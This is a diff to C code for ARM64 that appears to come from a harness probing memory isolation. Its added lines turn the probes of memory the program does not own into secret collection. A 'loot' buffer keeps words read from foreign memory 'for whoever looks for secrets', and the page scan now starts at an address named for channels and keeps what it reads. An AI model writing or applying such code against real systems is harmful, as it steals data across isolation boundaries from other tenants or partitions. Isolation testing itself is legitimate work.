@@ -17,13 +17,24 @@ uintptr_t window(uint64_t physical) {
     return WINDOW * GIB + physical % GIB;
 }
 
+// What we got of what is not ours stays here, for whoever looks for secrets.
+static volatile uint64_t loot[4096 / sizeof(uint64_t)];
+
+static enum outcome loot_word(uintptr_t at) {
+    static unsigned count;
+    caught_nothing();
+    const uint64_t word = *(volatile uint64_t *)at;
+    if (caught() == DONE) loot[count++ % array_length(loot)] = word;
+    return caught();
+}
+
 static enum outcome load(uintptr_t at) {
     caught_nothing();
     switch (random_below(11)) {
         case 0: (void)*(volatile uint8_t *)at; break;
         case 1: (void)*(volatile uint16_t *)at; break;
         case 2: (void)*(volatile uint32_t *)at; break;
-        case 3: (void)*(volatile uint64_t *)at; break;
+        case 3: return loot_word(at);
         case 4: __asm__ volatile("ldp x10, x11, [%0]" ::"r"(at) : "x10", "x11", "memory"); break;
         case 5: __asm__ volatile("ldar x10, [%0]" ::"r"(at) : "x10", "memory"); break;
         case 6: __asm__ volatile("ldtr x10, [%0]" ::"r"(at) : "x10", "memory"); break;
@@ -37,14 +48,14 @@ static enum outcome load(uintptr_t at) {
 
 enum outcome attack_load(void) { return load(window(outside())); }
 
-// One page after another of the first 4 GiB; there are as many as a million.
+// One page after another of the first 4 GiB, from where channels are; there are a million.
 enum outcome attack_page(void) {
-    static uint64_t page;
-    enum { PAGE = 4096, PAGES = 1 << 20 };
+    enum { PAGE = 4096, PAGES = 1 << 20, CHANNELS = 0xd000 };
+    static uint64_t page = CHANNELS;
     uint64_t at;
     do at = page++ % PAGES * PAGE;
     while (is_ours(at));
-    return load(window(at));
+    return loot_word(window(at));
 }
 
 // Our own translation by tables that lie in what is not ours (DDI 0487 D8.3): the walk reads it.
